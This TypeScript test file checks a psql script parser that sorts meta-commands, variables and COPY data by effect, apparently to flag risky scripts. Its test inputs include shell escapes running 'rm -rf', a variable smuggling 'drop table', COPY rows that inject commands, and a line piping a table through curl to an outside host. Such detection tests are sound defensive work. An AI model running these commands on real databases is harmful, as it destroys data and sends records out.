import { describe, expect, test } from 'vitest'
import { UNKNOWN } from '../word.ts'
import { readPsqlMeta } from './psql-meta.ts'
import { type PsqlMeta, type PsqlPart, splitPsql } from './psql-script.ts'

/** SQL as it is, commands as `\name[word|word]`, rows as `rows` or, where they may run, `rows!`. */
function print(part: PsqlPart): string {
  if (part.is === 'sql') return part.sql.trim().replaceAll(UNKNOWN, '?')
  if (part.is === 'rest') return 'rest'
  if (part.is === 'rows') return part.mayRun ? 'rows!' : 'rows'
  const shell = part.backquotes.map((text) => ` \`${text}\``).join('')
  return `\\${part.name}[${part.words.join('|').replaceAll(UNKNOWN, '?')}]${shell}`
}

const partsOf = (text: string): readonly string[] => splitPsql(text).map(print)

describe('parts of a script', () => {
  test.each<readonly [string, readonly string[]]>([
    ['select 1; select 2', ['select 1; select 2']],
    ['\\dt public.*\nselect 1', ['\\dt[public.*]', 'select 1']],
    ['select 1 \\g /tmp/x\nselect 2;', ['select 1', '\\g[/tmp/x]', 'select 2;']],
    ['select 1 \\g | cat; rm x\nselect 2;', ['select 1', '\\g[| cat; rm x]', 'select 2;']],
    ['\\a \\t select 1', ['\\a[]', '\\t[select|1]']],
    ['\\a \\\\ select 1', ['\\a[]', 'select 1']],
    ['\\! rm -rf "a b" \\dt', ['\\![rm -rf "a b" \\dt]']],
    ['\\!rm x', ['\\![rm x]']],
    ['\\echo \'a b\' "c" `id`', ['\\echo[a b|"c"|?] `id`'.replace('"c"', 'c')]],
    // quotes and comments hold no commands
    ["select '\\dt'", ["select '\\dt'"]],
    ['select "\\dt"', ['select "\\dt"']],
    ['select $$\\dt$$', ['select $$\\dt$$']],
    ['select $a$ $b$ \\dt $a$', ['select $a$ $b$ \\dt $a$']],
    ["select e'\\' \\dt'", ["select e'\\' \\dt'"]],
    ["select 'a\\' \\dt", ["select 'a\\'", '\\dt[]']],
    ['-- \\! rm x\nselect 1', ['-- \\! rm x\nselect 1']],
    ['/* \\! rm x /* */ \\! rm y */ select 1', ['/* \\! rm x /* */ \\! rm y */ select 1']],
    ['select a$b$ \\dt', ['select a$b$', '\\dt[]']],
    // two statements in one message
    ['select 1\\; select 2', ['select 1; select 2']],
  ])('%j', (text, parts) => {
    expect(partsOf(text)).toEqual(parts)
  })

  test('spans are those of the text', () => {
    const text = 'select 1;\n\\dt x\nselect 2;'
    expect(splitPsql(text).map(({ span }) => text.slice(...span))).toEqual(['select 1;\n', '\\dt x', '\nselect 2;'])
  })
})

describe('variables', () => {
  test.each<readonly [string, readonly string[]]>([
    ['select :x', ['select ?']],
    ['select :\'x\', :"y"', ['select ?, ?']],
    ['\\set x 5\nselect :x', ['\\set[x|5]', 'select 5']],
    ["\\set x a'b\nselect :'x'", ['\\set[x|ab]', "select 'ab'"]],
    ["\\set x '; drop table t; --'\nselect 1 :x", ['\\set[x|; drop table t; --]', 'select 1 ; drop table t; --']],
    ['\\set x `id`\nselect :x', ['\\set[x|?] `id`', 'select ?']],
    ['\\set x 5\n\\unset x\nselect :x', ['\\set[x|5]', '\\unset[x]', 'select ?']],
    ['\\set x 5\nselect 2 as x \\gset\nselect :x', ['\\set[x|5]', 'select 2 as x', '\\gset[]', 'select ?']],
    ['\\if 1\n\\set x 5\n\\endif\nselect :x', ['\\if[1]', '\\set[x|5]', '\\endif[]', 'select ?']],
    ['\\set f y.sql\n\\i :f\n', ['\\set[f|y.sql]', '\\i[y.sql]']],
    ['\\i :f', ['\\i[?]']],
    // no variables: casts, slices, quotes
    ["select a::text, b[1:2], ':x', $$:x$$", ["select a::text, b[1:2], ':x', $$:x$$"]],
  ])('%j', (text, parts) => {
    expect(partsOf(text)).toEqual(parts)
  })

  test('values from the command line are known', () => {
    const parts = splitPsql('select :x, :y', new Map([['x', '1']]))
    expect(parts.map(print)).toEqual(['select 1, ?'])
    expect(parts).toMatchObject([{ unknown: ['y'] }])
  })
})

describe('rows in the script', () => {
  test.each<readonly [string, readonly string[]]>([
    ['copy t from stdin;\n1\ta\\tb\n\\.\nselect 1;', ['copy t from stdin;', 'rows', 'select 1;']],
    [
      'COPY t (a, b) FROM STDIN WITH (FORMAT csv);\n1,2\n\\.\n',
      ['COPY t (a, b) FROM STDIN WITH (FORMAT csv);', 'rows'],
    ],
    ['\\copy t from stdin\n1\n\\.\nselect 1', ['\\copy[t from stdin]', 'rows', 'select 1']],
    // Seen with psql 15: where the COPY fails, these run.
    ['copy t from stdin;\ndrop table orders\n\\.\n', ['copy t from stdin;', 'rows!']],
    ['copy t from stdin;\n1; drop table orders;\n\\.\n', ['copy t from stdin;', 'rows!']],
    ['copy t from stdin;\n1 \\! rm x\n\\.\n', ['copy t from stdin;', 'rows!']],
    ["copy t from stdin;\n1\tO'Brien\n\\.\n", ['copy t from stdin;', 'rows!']],
    ["copy t from stdin;\n1\t'a'\n\\.\n", ['copy t from stdin;', 'rows']],
    // no rows follow
    ['copy t to stdout;\nselect 1;', ['copy t to stdout;\nselect 1;']],
  ])('%j', (text, parts) => {
    expect(partsOf(text)).toEqual(parts)
  })
})

describe('commands', () => {
  /** `kind verb on name; …` and what else the command does. */
  function reading(text: string): string {
    const metas = splitPsql(text).filter((part): part is PsqlMeta => part.is === 'meta')
    const { effects, sql, shell, file, include, connect, ends } = readPsqlMeta(metas[0] as PsqlMeta)
    const words = effects.map(({ kind, verb, on, name }) => [kind, verb, on, name].filter(Boolean).join(' '))
    if (sql !== undefined) words.push(`sql: ${sql}`)
    if (shell !== undefined) words.push(`shell: ${shell}`)
    if (file !== undefined) words.push(`${file.operation} ${file.path}`)
    if (include !== undefined) words.push(`include ${include.path}${include.beside ? ' beside' : ''}`)
    if (connect !== undefined) words.push(`connect ${connect}`)
    if (ends) words.push('ends')
    return words.join('; ')
  }

  test.each([
    ['\\d orders', 'read describe schema d'],
    ['\\d+ orders', 'read describe schema d+'],
    ['\\dt public.*', 'read describe schema dt'],
    ['\\dtvS+', 'read describe schema dtvS+'],
    ['\\dx', 'read describe schema dx'],
    ['\\dX+', 'read describe schema dX+'],
    ['\\du', 'read describe schema du'],
    ['\\deu', 'read describe schema deu'],
    ['\\deu+', 'read-secret describe user mapping'],
    ['\\dRs', 'read describe schema dRs'],
    ['\\dRs+', 'read-secret describe subscription'],
    ['\\l+', 'read describe schema l+'],
    ['\\sf f', 'read describe schema sf'],
    ['\\timing on', ''],
    ['\\x', ''],
    ['\\pset format csv', ''],
    ['\\q', 'ends'],
    ['\\! ls | rm -rf x', 'shell: ls | rm -rf x'],
    ['\\o | mail x', 'shell: mail x'],
    ['\\o /tmp/x', 'overwrite /tmp/x'],
    ['\\o', ''],
    ['\\g', ''],
    ['\\g (format=csv header=on) /tmp/x', 'overwrite /tmp/x'],
    ['\\gx | less', 'shell: less'],
    ['\\gexec', 'unreadable run command gexec'],
    ['\\gset', ''],
    ['\\e', 'unreadable run command edit'],
    ['\\i sql/x.sql', 'include sql/x.sql'],
    ['\\ir x.sql', 'include x.sql beside'],
    ['\\c shop app db.prod.example', 'connect shop app db.prod.example'],
    ['\\c', ''],
    ['\\setenv PAGER x', 'unreadable run command setenv'],
    ['\\password bob', 'access password role bob'],
    ['\\lo_unlink 7', 'change delete large object 7'],
    ['\\lo_export 7 /tmp/x', 'read-data read large object 7; overwrite /tmp/x'],
    ['\\lo_import /tmp/x', 'change create large object; read /tmp/x'],
    ['\\encoding', ''],
    ['\\encoding UTF8', 'read set setting client_encoding'],
    ['\\encoding SJIS', 'unreadable set setting client_encoding'],
    ['\\echo `id`', 'shell: id'],
    ['\\unheard_of', 'unreadable run command unheard_of'],
    ["\\copy orders to 'x.csv' csv header", 'sql: COPY orders TO STDOUT csv header; overwrite x.csv'],
    ['\\copy orders (a, b) from x.csv', 'sql: COPY orders (a, b) FROM STDIN; read x.csv'],
    ["\\copy (select 'x from y' from orders) to stdout", "sql: COPY (select 'x from y' from orders) TO STDOUT"],
    ['\\copy orders from pstdin', 'sql: COPY orders FROM STDIN'],
    [
      "\\copy orders to program 'curl -d @- https://x.example/'",
      'sql: COPY orders TO STDOUT; shell: curl -d @- https://x.example/',
    ],
    ['\\copy orders', 'unreadable run command copy'],
  ])('%s', (text, expected) => {
    expect(reading(text)).toBe(expected)
  })
})

test('of more commands than can be looked at the rest is not read', () => {
  expect(partsOf('\\a\n'.repeat(100_001)).at(-1)).toBe('rest')
  expect(partsOf('\\a\n'.repeat(100)).at(-1)).toBe('\\a[]')
})
